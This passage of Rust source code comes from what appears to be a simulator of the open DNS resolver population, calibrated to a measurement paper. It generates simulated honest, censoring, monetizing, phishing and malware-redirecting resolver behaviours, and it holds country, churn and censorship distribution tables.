        _ => "the Republic",
    }
}

/// Sample a software family+version from Table 3 + tail.
fn sample_software(rng: &mut SmallRng) -> (String, String) {
    let mut u = rng.gen::<f64>();
    for (family, version, share, _) in TABLE3_SOFTWARE {
        if u < *share {
            return (family.to_string(), version.to_string());
        }
        u -= share;
    }
    for (family, version, share) in TAIL_SOFTWARE {
        if u < *share {
            return (family.to_string(), version.to_string());
        }
        u -= share;
    }
    ("BIND".to_string(), "9.9.4".to_string())
}

/// Sample a cache/utilization profile per the Sec. 2.6 shares.
#[allow(clippy::type_complexity)]
fn sample_cache_profile(rng: &mut SmallRng, salt: u64) -> CacheProfile {
    let p = UTILIZATION_PLAN;
    let mut u = rng.gen::<f64>();
    let phase = (salt % 86_400) as u32;
    let steps: [(f64, fn(&mut SmallRng, u32) -> CacheProfile); 8] = [
        (p.empty_answer, |_, _| CacheProfile::EmptyAnswer),
        (p.single_then_silent, |_, _| CacheProfile::SingleThenSilent),
        (p.static_ttl, |r, _| CacheProfile::StaticTtl {
            ttl: r.gen_range(60..86_400),
        }),
        (p.zero_ttl, |_, _| CacheProfile::ZeroTtl),
        (p.frequent, |r, phase| CacheProfile::InUse {
            refresh_gap_s: r.gen_range(1..=5),
            tld_mask: 0x7fff, // clients touch all 15 TLDs
            phase_s: phase,
        }),
        (p.in_use_slow, |r, phase| CacheProfile::InUse {
            refresh_gap_s: r.gen_range(300..5_400),
            tld_mask: 0b0111_1111 << (phase % 8),
            phase_s: phase,
        }),
        (p.ttl_resetter, |_, _| CacheProfile::TtlResetter),
        (p.slow_decreasing, |_, _| CacheProfile::SlowDecreasing {
            ttl: 172_800,
        }),
    ];
    for (share, make) in steps {
        if u < share {
            return make(rng, phase);
        }
        u -= share;
    }
    // Remainder: hosts that churn away mid-snooping — externally this
    // looks like silence; model as SingleThenSilent.
    CacheProfile::SingleThenSilent
}

/// Instantiate a device profile from the plan.
fn device_profile(plan: DeviceClassPlan, serial: u32) -> DeviceProfile {
    use DeviceClassPlan::*;
    let (class, os) = match plan {
        RouterZyNos => (DeviceClass::Router, DeviceOs::ZyNos),
        RouterSmartWare => (DeviceClass::Router, DeviceOs::SmartWare),
        RouterOsMikrotik => (DeviceClass::Router, DeviceOs::RouterOs),
        RouterLinux => (DeviceClass::Router, DeviceOs::Linux),
        EmbeddedLinux => (DeviceClass::Embedded, DeviceOs::Linux),
        EmbeddedCentOs => (DeviceClass::Embedded, DeviceOs::CentOs),
        EmbeddedUnknown => (DeviceClass::Embedded, DeviceOs::Unknown),
        ServerCentOs => (DeviceClass::Other, DeviceOs::CentOs),
        ServerWindows => (DeviceClass::Other, DeviceOs::Windows),
        ServerUnix => (DeviceClass::Other, DeviceOs::Unix),
        Firewall => (DeviceClass::Firewall, DeviceOs::Linux),
        Camera => (DeviceClass::Camera, DeviceOs::Linux),
        Dvr => (DeviceClass::Dvr, DeviceOs::Linux),
        Nas => (DeviceClass::Nas, DeviceOs::Linux),
        Dslam => (DeviceClass::Dslam, DeviceOs::Unknown),
        OtherMisc => (DeviceClass::Other, DeviceOs::Other),
    };
    DeviceProfile {
        class,
        os,
        tcp_exposed: true,
        serial: serial & 0xffff,
    }
}

/// Build the concrete [`ResolverBehavior`] for a planned kind.
#[allow(clippy::too_many_arguments)]
fn materialize_behavior(
    kind: BehaviorKind,
    censor_layer: bool,
    country_code: &str,
    infra: &InfraIndex,
    censor_policies: &BTreeMap<&str, Arc<CensorPolicy>>,
    censored_social: &Arc<BTreeSet<String>>,
    ad_targets: &Arc<BTreeSet<String>>,
    fake_search_targets: &Arc<BTreeSet<String>>,
    parking_stale_targets: &Arc<BTreeSet<String>>,
    parking_tor_targets: &Arc<BTreeSet<String>>,
    malware_search_targets: &Arc<BTreeSet<String>>,
    malware_update_targets: &Arc<BTreeSet<String>>,
    paypal_targets: &Arc<BTreeSet<String>>,
    bank_targets: &Arc<BTreeSet<String>>,
    salt: u64,
) -> ResolverBehavior {
    let pick = |v: &Vec<Ipv4Addr>, s: u64| v[(s as usize) % v.len().max(1)];
    let base = match kind {
        BehaviorKind::Honest => ResolverBehavior::Honest,
        BehaviorKind::Censor => match censor_policies.get(country_code) {
            Some(p) => ResolverBehavior::Censor { policy: p.clone() },
            None => ResolverBehavior::Honest,
        },
        BehaviorKind::GfwPoisoned => ResolverBehavior::GfwPoisoned {
            censored: censored_social.clone(),
            escapes_gfw: false,
        },
        BehaviorKind::GfwEscape => ResolverBehavior::GfwPoisoned {
            censored: censored_social.clone(),
            escapes_gfw: true,
        },
        BehaviorKind::NxMonetizer => {
            // Target mix shapes Table 5's NX column.
            let u = (salt % 100) as f64 / 100.0;
            let ip = if u < 0.40 {
                pick(&infra.search_ips, salt)
            } else if u < 0.65 {
                pick(&infra.error_ips, salt)
            } else if u < 0.87 {
                pick(&infra.parking_ips, salt)
            } else {
                pick(&infra.misc_site_ips, salt)
            };
            ResolverBehavior::NxMonetizer {
                search_ips: vec![ip],
            }
        }
        BehaviorKind::StaticError => ResolverBehavior::StaticIp {
            ip: pick(&infra.error_ips, salt),
        },
        BehaviorKind::StaticParking => ResolverBehavior::StaticIp {
            ip: pick(&infra.parking_ips, salt),
        },
        BehaviorKind::StaticSearch => ResolverBehavior::StaticIp {
            ip: pick(&infra.search_ips, salt),
        },
        BehaviorKind::StaticMisc => ResolverBehavior::StaticIp {
            ip: pick(&infra.misc_site_ips, salt),
        },
        BehaviorKind::SelfIp => ResolverBehavior::SelfIp,
        BehaviorKind::LanRedirect => ResolverBehavior::LanRedirect {
            ip: Ipv4Addr::new(192, 168, (salt % 255) as u8, 1),
        },
        BehaviorKind::CaptivePortal => ResolverBehavior::StaticIp {
            ip: pick(&infra.portal_ips, salt),
        },
        BehaviorKind::RefusedAll => ResolverBehavior::RefusedAll,
        BehaviorKind::ServFailAll => ResolverBehavior::ServFailAll,
        BehaviorKind::EmptyAll => ResolverBehavior::EmptyAll,
        BehaviorKind::NsOnly => ResolverBehavior::NsOnly {
            ns_host: "ns.local.example".into(),
        },
        BehaviorKind::PortRewriter => ResolverBehavior::PortRewriter {
            inner: Box::new(ResolverBehavior::Honest),
        },
        BehaviorKind::BlockerMalware => ResolverBehavior::Blocker {
            categories: vec![DomainCategory::Malware],
            block_ip: pick(&infra.blockpage_ips, salt & !1),
        },
        BehaviorKind::BlockerFamily => ResolverBehavior::Blocker {
            categories: vec![DomainCategory::Dating, DomainCategory::Adult],
            block_ip: pick(&infra.blockpage_ips, salt | 1),
        },
        BehaviorKind::ParkingStale => ResolverBehavior::Parking {
            targets: parking_stale_targets.clone(),
            park_ips: infra.parking_ips.clone(),
        },
        BehaviorKind::ParkingTor => ResolverBehavior::Parking {
            targets: parking_tor_targets.clone(),
            park_ips: infra.parking_ips.clone(),
        },
        // Re-registered malware domains monetized through search landers
        // (semantically a targeted redirect; the label comes from the
        // target host's content).
        BehaviorKind::MalwareSearch => ResolverBehavior::Parking {
            targets: malware_search_targets.clone(),
            park_ips: infra.search_ips.clone(),
        },
        BehaviorKind::AdInjectBanner => ResolverBehavior::AdRedirect {
            targets: ad_targets.clone(),
            inject_ip: pick(&infra.ad_banner_ips, salt),
        },
        BehaviorKind::AdInjectScript => ResolverBehavior::AdRedirect {
            targets: ad_targets.clone(),
            inject_ip: pick(&infra.ad_script_ips, salt),
        },
        BehaviorKind::AdBlank => ResolverBehavior::AdRedirect {
            targets: ad_targets.clone(),
            inject_ip: pick(&infra.ad_blank_ips, salt),
        },
        BehaviorKind::AdFakeSearch => ResolverBehavior::AdRedirect {
            targets: fake_search_targets.clone(),
            inject_ip: pick(&infra.ad_fake_search_ips, salt),
        },
        BehaviorKind::ProxyTls => ResolverBehavior::ProxyAll {
            proxy_ips: infra.proxy_tls_ips.clone(),
        },
        BehaviorKind::ProxyHttp => ResolverBehavior::ProxyAll {
            proxy_ips: infra.proxy_http_ips.clone(),
        },
        BehaviorKind::PhishPaypal => ResolverBehavior::Phish {
            targets: paypal_targets.clone(),
            phish_ip: infra.phish_ips[(salt as usize) % 16.min(infra.phish_ips.len())],
        },
        BehaviorKind::PhishBankBr => ResolverBehavior::Phish {
            targets: bank_targets.clone(),
            phish_ip: infra.phish_ips[16.min(infra.phish_ips.len() - 1)],
        },
        BehaviorKind::PhishBankRu => ResolverBehavior::Phish {
            targets: bank_targets.clone(),
            phish_ip: infra.phish_ips[17.min(infra.phish_ips.len() - 1)],
        },
        BehaviorKind::PhishMisc => {
            let idx = 18 + (salt as usize) % infra.phish_ips.len().saturating_sub(18).max(1);
            ResolverBehavior::Phish {
                targets: Arc::new(
                    ["chasebank.example", "hsbcbank.example", "alipay.example"]
                        .iter()
                        .map(|s| s.to_string())
                        .collect(),
                ),
                phish_ip: infra.phish_ips[idx.min(infra.phish_ips.len() - 1)],
            }
        }
        BehaviorKind::MailIntercept => ResolverBehavior::MailIntercept {
            mail_ips: infra.mail_intercept_ips.clone(),
        },
        BehaviorKind::MailClone => ResolverBehavior::MailIntercept {
            mail_ips: infra.mail_clone_ips.clone(),
        },
        BehaviorKind::MalwareUpdate => ResolverBehavior::MalwareRedirect {
            targets: malware_update_targets.clone(),
            ip: pick(&infra.malware_update_ips, salt),
        },
    };

    if censor_layer
        && !matches!(
            kind,
            BehaviorKind::Censor | BehaviorKind::GfwPoisoned | BehaviorKind::GfwEscape
        )
    {
        let censor: ResolverBehavior = if country_code == "CN" {
            ResolverBehavior::GfwPoisoned {
                censored: censored_social.clone(),
                escapes_gfw: false,
            }
        } else {
            match censor_policies.get(country_code) {
                Some(p) => ResolverBehavior::Censor { policy: p.clone() },
                None => return base,
            }
        };
        ResolverBehavior::Layered {
            censor: Box::new(censor),
            fallback: Box::new(base),
        }
    } else {
        base
    }
}
