//! The population plan: every distribution the generator is calibrated
//! to, as data. Numbers cite the paper section they come from.

use serde::{Deserialize, Serialize};

/// Top-level generator configuration.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct WorldConfig {
    /// Master seed; every random decision derives from it.
    pub seed: u64,
    /// Population scale relative to the paper (1.0 = 26.8M resolvers).
    /// The default 0.001 yields ≈26.8k resolvers — laptop-sized while
    /// keeping every percentage statistically meaningful.
    pub scale: f64,
    /// UDP loss probability of the simulated transport.
    pub udp_loss: f64,
    /// Number of weeks the world evolves (the paper observed 55).
    pub weeks: u32,
}

impl Default for WorldConfig {
    fn default() -> Self {
        WorldConfig {
            seed: 2015_1028,
            scale: 0.001,
            udp_loss: 0.004,
            weeks: 55,
        }
    }
}

impl WorldConfig {
    /// A tiny world for unit tests (≈2.7k resolvers).
    pub fn tiny(seed: u64) -> Self {
        WorldConfig {
            seed,
            scale: 0.0001,
            udp_loss: 0.0,
            weeks: 55,
        }
    }

    /// Scale an absolute paper count into this world.
    pub fn scaled(&self, paper_count: u64) -> u64 {
        ((paper_count as f64) * self.scale).round().max(0.0) as u64
    }

    /// Scale a small case-study count, guaranteeing at least `min`.
    pub fn scaled_min(&self, paper_count: u64, min: u64) -> u64 {
        self.scaled(paper_count).max(min)
    }
}

/// Per-country population plan (Table 1 + countries named in the text).
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct CountryPlan {
    /// ISO 3166 alpha-2 country code.
    pub code: &'static str,
    /// NOERROR resolvers on Jan 31, 2014 (paper scale).
    pub start: u64,
    /// NOERROR resolvers on Feb 6, 2015.
    pub end: u64,
}

/// Country populations. Top-10 rows are Table 1 verbatim; the rest are
/// sized from the text's percentages and Figure 4-a shares, with a long
/// tail bringing the total to ≈26.8M.
pub const COUNTRY_PLANS: &[CountryPlan] = &[
    // Table 1 (start and end measured).
    CountryPlan {
        code: "US",
        start: 2_958_640,
        end: 2_537_269,
    },
    CountryPlan {
        code: "CN",
        start: 2_418_949,
        end: 2_104_663,
    },
    CountryPlan {
        code: "TR",
        start: 1_439_736,
        end: 976_226,
    },
    CountryPlan {
        code: "VN",
        start: 1_393_618,
        end: 1_039_075,
    },
    CountryPlan {
        code: "MX",
        start: 1_372_934,
        end: 1_175_343,
    },
    CountryPlan {
        code: "IN",
        start: 1_269_714,
        end: 1_431_522,
    },
    CountryPlan {
        code: "TH",
        start: 1_214_042,
        end: 564_482,
    },
    CountryPlan {
        code: "IT",
        start: 1_172_001,
        end: 722_756,
    },
    CountryPlan {
        code: "CO",
        start: 1_062_080,
        end: 677_572,
    },
    CountryPlan {
        code: "TW",
        start: 1_061_218,
        end: 453_016,
    },
    // Countries named in the text with known dynamics.
    CountryPlan {
        code: "AR",
        start: 960_000,
        end: 240_000,
    }, // −75.0%
    CountryPlan {
        code: "GB",
        start: 520_000,
        end: 189_280,
    }, // −63.6%
    CountryPlan {
        code: "MY",
        start: 180_000,
        end: 287_460,
    }, // +59.7%
    CountryPlan {
        code: "LB",
        start: 60_000,
        end: 106_020,
    }, // +76.7%
    CountryPlan {
        code: "KR",
        start: 640_000,
        end: 205_000,
    }, // ISP shutdown
    // Figure 4-a visible populations.
    CountryPlan {
        code: "ID",
        start: 850_000,
        end: 640_000,
    },
    CountryPlan {
        code: "IR",
        start: 820_000,
        end: 700_000,
    },
    CountryPlan {
        code: "EG",
        start: 660_000,
        end: 500_000,
    },
    CountryPlan {
        code: "BR",
        start: 640_000,
        end: 500_000,
    },
    CountryPlan {
        code: "RU",
        start: 630_000,
        end: 490_000,
    },
    CountryPlan {
        code: "PL",
        start: 560_000,
        end: 430_000,
    },
    CountryPlan {
        code: "DZ",
        start: 520_000,
        end: 400_000,
    },
    CountryPlan {
        code: "JP",
        start: 360_000,
        end: 280_000,
    },
    // Censorship-relevant smaller countries (Sec. 4.2).
    CountryPlan {
        code: "GR",
        start: 120_000,
        end: 90_000,
    },
    CountryPlan {
        code: "BE",
        start: 110_000,
        end: 85_000,
    },
    CountryPlan {
        code: "MN",
        start: 40_000,
        end: 30_000,
    },
    CountryPlan {
        code: "EE",
        start: 35_000,
        end: 27_000,
    },
    // Long tail.
    CountryPlan {
        code: "DE",
        start: 980_000,
        end: 740_000,
    },
    CountryPlan {
        code: "FR",
        start: 930_000,
        end: 700_000,
    },
    CountryPlan {
        code: "ES",
        start: 700_000,
        end: 530_000,
    },
    CountryPlan {
        code: "UA",
        start: 500_000,
        end: 380_000,
    },
    CountryPlan {
        code: "RO",
        start: 460_000,
        end: 350_000,
    },
    CountryPlan {
        code: "CA",
        start: 420_000,
        end: 330_000,
    },
    CountryPlan {
        code: "NL",
        start: 340_000,
        end: 260_000,
    },
    CountryPlan {
        code: "PH",
        start: 330_000,
        end: 250_000,
    },
    CountryPlan {
        code: "PK",
        start: 320_000,
        end: 240_000,
    },
    CountryPlan {
        code: "BD",
        start: 300_000,
        end: 230_000,
    },
    CountryPlan {
        code: "CL",
        start: 280_000,
        end: 210_000,
    },
    CountryPlan {
        code: "PE",
        start: 260_000,
        end: 200_000,
    },
    CountryPlan {
        code: "VE",
        start: 250_000,
        end: 190_000,
    },
    CountryPlan {
        code: "CZ",
        start: 230_000,
        end: 175_000,
    },
    CountryPlan {
        code: "HU",
        start: 210_000,
        end: 160_000,
    },
    CountryPlan {
        code: "PT",
        start: 200_000,
        end: 150_000,
    },
    CountryPlan {
        code: "SE",
        start: 190_000,
        end: 145_000,
    },
    CountryPlan {
        code: "AT",
        start: 180_000,
        end: 135_000,
    },
    CountryPlan {
        code: "CH",
        start: 170_000,
        end: 130_000,
    },
    CountryPlan {
        code: "ZA",
        start: 160_000,
        end: 120_000,
    },
    CountryPlan {
        code: "NG",
        start: 150_000,
        end: 115_000,
    },
    CountryPlan {
        code: "MA",
        start: 140_000,
        end: 105_000,
    },
    CountryPlan {
        code: "TN",
        start: 130_000,
        end: 100_000,
    },
    CountryPlan {
        code: "KE",
        start: 120_000,
        end: 90_000,
    },
    CountryPlan {
        code: "AU",
        start: 240_000,
        end: 185_000,
    },
    CountryPlan {
        code: "HK",
        start: 200_000,
        end: 155_000,
    },
    CountryPlan {
        code: "SG",
        start: 150_000,
        end: 115_000,
    },
    CountryPlan {
        code: "NZ",
        start: 80_000,
        end: 60_000,
    },
    CountryPlan {
        code: "UY",
        start: 90_000,
        end: 68_000,
    },
    CountryPlan {
        code: "BO",
        start: 85_000,
        end: 64_000,
    },
    CountryPlan {
        code: "PY",
        start: 80_000,
        end: 60_000,
    },
    CountryPlan {
        code: "EC",
        start: 95_000,
        end: 72_000,
    },
    CountryPlan {
        code: "GH",
        start: 70_000,
        end: 53_000,
    },
];

/// IP-lease churn classes (Sec. 2.5 / Figure 2). Shares calibrated so
/// that ≈40% of the initial cohort renumbers within a day, ≈52% within
/// a week, and ≈4% is still on its address after 55 weeks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum ChurnClass {
    /// Consumer broadband with ~1-day leases.
    Daily,
    /// ~1-week leases.
    Weekly,
    /// ~6-week leases.
    Monthly,
    /// ~20-week leases.
    Quarterly,
    /// Effectively static.
    Static,
}

impl ChurnClass {
    /// `(class, share, mean_lease_ms)`. Daily leases are ~14 h: consumer
    /// PPPoE/DHCP re-dials cluster well inside a day, which is what
    /// drives the paper's ">40% gone within the first day".
    pub fn mix() -> [(ChurnClass, f64, u64); 5] {
        use netsim::SimTime;
        [
            (ChurnClass::Daily, 0.45, 14 * SimTime::HOUR),
            (ChurnClass::Weekly, 0.10, SimTime::WEEK),
            (ChurnClass::Monthly, 0.25, 6 * SimTime::WEEK),
            (ChurnClass::Quarterly, 0.18, 20 * SimTime::WEEK),
            (ChurnClass::Static, 0.02, 500 * SimTime::WEEK),
        ]
    }

    /// Whether pools of this class carry dynamic-assignment rDNS tokens
    /// (67.4% of day-one leavers did, Sec. 2.5).
    pub fn dynamic_rdns_share(self) -> f64 {
        match self {
            ChurnClass::Daily => 0.70,
            ChurnClass::Weekly => 0.55,
            ChurnClass::Monthly => 0.30,
            ChurnClass::Quarterly => 0.10,
            ChurnClass::Static => 0.02,
        }
    }
}

/// Ground-truth behaviour classes. Shares are the *base* population mix;
/// country censorship and case-study micro-populations are layered on
/// top by the builder.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum BehaviorKind {
    /// Relays answers unmodified.
    Honest,
    /// Country-policy censor redirecting to landing pages.
    Censor,
    /// Chinese resolver whose answers are poisoned by the GFW injector.
    GfwPoisoned,
    /// Chinese resolver on a path the GFW misses (completes the paper's
    /// double-response evidence).
    GfwEscape,
    /// Rewrites NXDOMAIN into parking/search IPs (NX monetization).
    NxMonetizer,
    /// Answers every domain with an HTTP-error host.
    StaticError,
    /// Answers every domain with one parking IP.
    StaticParking,
    /// Answers every domain with one search IP.
    StaticSearch,
    /// Answers every domain with one unrelated static site.
    StaticMisc,
    /// Answers with the resolver's own address (CPE web UIs).
    SelfIp,
    /// Answers with a private LAN address.
    LanRedirect,
    /// Answers everything with a captive-portal login host.
    CaptivePortal,
    /// REFUSED to every query.
    RefusedAll,
    /// SERVFAIL to every query.
    ServFailAll,
    /// NOERROR with an empty answer section.
    EmptyAll,
    /// Answers NS queries only (snooping responder, no A records).
    NsOnly,
    /// Correct IP but answers arrive from a different source port.
    PortRewriter,
    /// Security blocker: sinkholes the malware category.
    BlockerMalware,
    /// Parental-control blocker: sinkholes adult/dating categories.
    BlockerFamily,
    /// Serves stale parking IPs for expired domains.
    ParkingStale,
    /// Redirects Tor/filesharing domains to parking.
    ParkingTor,
    /// Redirects half the malware set to search pages (paper: search
    /// responses for six of 13 malware domains, 21.4% of their
    /// suspicious resolvers — re-registration monetization).
    MalwareSearch,
    /// Redirects ad networks to a banner-substituting host.
    AdInjectBanner,
    /// Redirects ad networks to a script-injecting host.
    AdInjectScript,
    /// Redirects ad networks to a blank-creative host (ad suppression).
    AdBlank,
    /// Redirects search engines to an ad-laden mimic.
    AdFakeSearch,
    /// Sends all domains through a TLS-capable transparent proxy.
    ProxyTls,
    /// Sends all domains through an HTTP-only transparent proxy.
    ProxyHttp,
    /// PayPal-targeting phishing redirect (Sec. 4.3: 176 resolvers).
    PhishPaypal,
    /// Brazilian bank clone redirect (285 resolvers, one IP).
    PhishBankBr,
    /// Russian bank clone redirect (46 resolvers, one IP).
    PhishBankRu,
    /// Remaining phishing-labelled redirections.
    PhishMisc,
    /// Redirects MX hostnames to a banner-mimicking mail relay.
    MailIntercept,
    /// Redirects MX hostnames to a full provider clone.
    MailClone,
    /// Redirects update/download domains to fake-update droppers.
    MalwareUpdate,
}

/// `(kind, share_of_noerror_population)` for the statistically sized
/// behaviours. Honest absorbs the remainder. Calibrated against the
/// Sec. 4.1 suspicious-tuple rates and Table 5 label shares:
/// the category-independent redirectors (static/self/LAN/portal) create
/// the flat ~2.5% suspicious base every domain category shows, and the
/// NX-only monetizers lift NX to ≈13.7%.
pub const BASE_BEHAVIOR_MIX: &[(BehaviorKind, f64)] = &[
    (BehaviorKind::StaticError, 0.0080),
    (BehaviorKind::StaticParking, 0.0032),
    (BehaviorKind::StaticSearch, 0.0002),
    (BehaviorKind::StaticMisc, 0.0010),
    (BehaviorKind::SelfIp, 0.0004),
    (BehaviorKind::LanRedirect, 0.0014),
    (BehaviorKind::CaptivePortal, 0.0016),
    (BehaviorKind::NsOnly, 0.0006),
    (BehaviorKind::NxMonetizer, 0.1000),
    (BehaviorKind::PortRewriter, 0.0008),
    (BehaviorKind::BlockerMalware, 0.0060),
    (BehaviorKind::BlockerFamily, 0.0030),
    (BehaviorKind::ParkingStale, 0.0450),
    (BehaviorKind::ParkingTor, 0.0100),
    (BehaviorKind::MalwareSearch, 0.0090),
    (BehaviorKind::MailIntercept, 0.0040),
];

/// Scan-level response-class populations (Figure 1): alongside the
/// NOERROR fleet, REFUSED hosts stay stable and SERVFAIL fluctuates.
pub struct ResponseClassPlan {
    /// REFUSED responders as a fraction of the NOERROR start population.
    pub refused_fraction: f64,
    /// Minimum / maximum concurrently active SERVFAIL responders
    /// (paper: 633,393 – 2,141,539 of 26.8M).
    pub servfail_min_fraction: f64,
    /// See [`ResponseClassPlan::servfail_min_fraction`].
    pub servfail_max_fraction: f64,
}

/// The calibrated Figure 1 response-class plan.
pub const RESPONSE_CLASS_PLAN: ResponseClassPlan = ResponseClassPlan {
    refused_fraction: 0.085,
    servfail_min_fraction: 0.024,
    servfail_max_fraction: 0.080,
};

/// Case-study micro-populations (paper-scale counts; Sec. 4.1 / 4.3).
pub struct CaseStudyPlan {
    /// Resolvers answering everything with their own IP (8,194).
    pub self_ip_everywhere: u64,
    /// Ad-banner/script redirectors (281 resolvers, 4 IPs).
    pub ad_redirect_resolvers: u64, // 281 → 4 IPs
    /// Blank-creative suppressors (14 resolvers, 7 IPs).
    pub ad_blank_resolvers: u64, // 14 → 7 IPs
    /// Fake-search redirectors (7 resolvers, 2 IPs).
    pub ad_fake_search_resolvers: u64, // 7 → 2 IPs
    /// TLS-capable transparent proxies (99 resolvers, 10 IPs).
    pub proxy_tls_resolvers: u64, // 99 → 10 IPs
    /// HTTP-only transparent proxies (10,179 resolvers, 10 IPs).
    pub proxy_http_resolvers: u64, // 10,179 → 10 IPs
    /// PayPal phishing redirectors (176 resolvers, 16 IPs).
    pub phish_paypal_resolvers: u64, // 176 → 16 IPs
    /// Brazilian bank clone redirectors (285 resolvers, 1 IP).
    pub phish_bank_br_resolvers: u64, // 285 → 1 IP
    /// Russian bank clone redirectors (46 resolvers, 1 IP).
    pub phish_bank_ru_resolvers: u64, // 46 → 1 IP
    /// Remainder of the 1,360 phishing-labelled resolvers.
    pub phish_misc_resolvers: u64, // remainder of 1,360
    /// Mail-provider clone redirectors (8 resolvers).
    pub mail_clone_resolvers: u64, // 8
    /// Fake-update dropper redirectors (228 resolvers, 30 IPs).
    pub malware_update_resolvers: u64, // 228 → 30 IPs
}

/// Paper-scale case-study counts (Sec. 4.1 / 4.3).
pub const CASE_STUDY_PLAN: CaseStudyPlan = CaseStudyPlan {
    self_ip_everywhere: 8_194,
    ad_redirect_resolvers: 281,
    ad_blank_resolvers: 14,
    ad_fake_search_resolvers: 7,
    proxy_tls_resolvers: 99,
    proxy_http_resolvers: 10_179,
    phish_paypal_resolvers: 176,
    phish_bank_br_resolvers: 285,
    phish_bank_ru_resolvers: 46,
    phish_misc_resolvers: 853,
    mail_clone_resolvers: 8,
    malware_update_resolvers: 228,
};

/// Censorship plan per country (Sec. 4.2). `social` = blocks
/// Facebook/Twitter/YouTube; `landing_ips` sums to ≈299 across all
/// entries (the paper's count).
#[derive(Debug, Clone, Copy)]
pub struct CensorPlan {
    /// ISO 3166 alpha-2 country code.
    pub code: &'static str,
    /// Fraction of the country's resolvers that enforce the policy.
    pub compliance: f64,
    /// Blocks Facebook/Twitter/YouTube.
    pub social: bool,
    /// Blocks the Adult category.
    pub adult: bool,
    /// Blocks the Gambling category.
    pub gambling: bool,
    /// Blocks the Dating category.
    pub dating: bool,
    /// Blocks the Filesharing category.
    pub filesharing: bool,
    /// Individually named extra domains.
    pub extra_domains: &'static [&'static str],
    /// Distinct landing-page IPs this country operates.
    pub landing_ips: u32,
}

/// The explicitly modelled censoring countries. CN is handled by the
/// GFW (no landing pages — forged random IPs); the other 33 countries
/// use landing pages, matching the paper's "34 different countries".
pub const CENSOR_PLANS: &[CensorPlan] = &[
    CensorPlan {
        code: "CN",
        compliance: 0.997,
        social: true,
        adult: false,
        gambling: false,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 0,
    },
    CensorPlan {
        code: "IR",
        compliance: 0.60,
        social: true,
        adult: true,
        gambling: true,
        dating: true,
        filesharing: false,
        extra_domains: &["blogspot.example"],
        landing_ips: 30,
    },
    CensorPlan {
        code: "TR",
        compliance: 0.90,
        social: false,
        adult: true,
        gambling: true,
        dating: false,
        filesharing: true,
        extra_domains: &["rotten.example", "wikileaks.example"],
        landing_ips: 22,
    },
    CensorPlan {
        code: "ID",
        compliance: 0.80,
        social: false,
        adult: true,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &["blogspot.example", "rotten.example"],
        landing_ips: 30,
    },
    CensorPlan {
        code: "MY",
        compliance: 0.60,
        social: false,
        adult: true,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 12,
    },
    CensorPlan {
        code: "IT",
        compliance: 0.693,
        social: false,
        adult: false,
        gambling: true,
        dating: false,
        filesharing: true,
        extra_domains: &[],
        landing_ips: 20,
    },
    CensorPlan {
        code: "RU",
        compliance: 0.70,
        social: false,
        adult: false,
        gambling: true,
        dating: false,
        filesharing: true,
        extra_domains: &["wikileaks.example"],
        landing_ips: 24,
    },
    CensorPlan {
        code: "GR",
        compliance: 0.839,
        social: false,
        adult: false,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 8,
    },
    CensorPlan {
        code: "BE",
        compliance: 0.786,
        social: false,
        adult: false,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 8,
    },
    CensorPlan {
        code: "MN",
        compliance: 0.789,
        social: false,
        adult: true,
        gambling: false,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 6,
    },
    // Estonia resolves gambling domains to *Russian* landing pages
    // (Sec. 6, Levis confirmation) — the builder wires EE to RU's IPs.
    CensorPlan {
        code: "EE",
        compliance: 0.569,
        social: false,
        adult: false,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 0,
    },
    CensorPlan {
        code: "VN",
        compliance: 0.40,
        social: false,
        adult: true,
        gambling: false,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 14,
    },
    CensorPlan {
        code: "TH",
        compliance: 0.45,
        social: false,
        adult: true,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 12,
    },
    CensorPlan {
        code: "PK",
        compliance: 0.25,
        social: false,
        adult: true,
        gambling: false,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 12,
    },
    CensorPlan {
        code: "EG",
        compliance: 0.35,
        social: false,
        adult: true,
        gambling: true,
        dating: true,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 10,
    },
    CensorPlan {
        code: "DZ",
        compliance: 0.30,
        social: false,
        adult: true,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 8,
    },
    CensorPlan {
        code: "IN",
        compliance: 0.15,
        social: false,
        adult: true,
        gambling: false,
        dating: false,
        filesharing: true,
        extra_domains: &[],
        landing_ips: 14,
    },
    CensorPlan {
        code: "UA",
        compliance: 0.25,
        social: false,
        adult: false,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 6,
    },
    CensorPlan {
        code: "RO",
        compliance: 0.30,
        social: false,
        adult: false,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 6,
    },
    CensorPlan {
        code: "PH",
        compliance: 0.25,
        social: false,
        adult: true,
        gambling: false,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 5,
    },
    CensorPlan {
        code: "BD",
        compliance: 0.45,
        social: false,
        adult: true,
        gambling: false,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 6,
    },
    CensorPlan {
        code: "MA",
        compliance: 0.30,
        social: false,
        adult: true,
        gambling: false,
        dating: true,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 5,
    },
    CensorPlan {
        code: "TN",
        compliance: 0.25,
        social: false,
        adult: true,
        gambling: false,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 4,
    },
    CensorPlan {
        code: "KE",
        compliance: 0.20,
        social: false,
        adult: false,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 4,
    },
    CensorPlan {
        code: "ZA",
        compliance: 0.15,
        social: false,
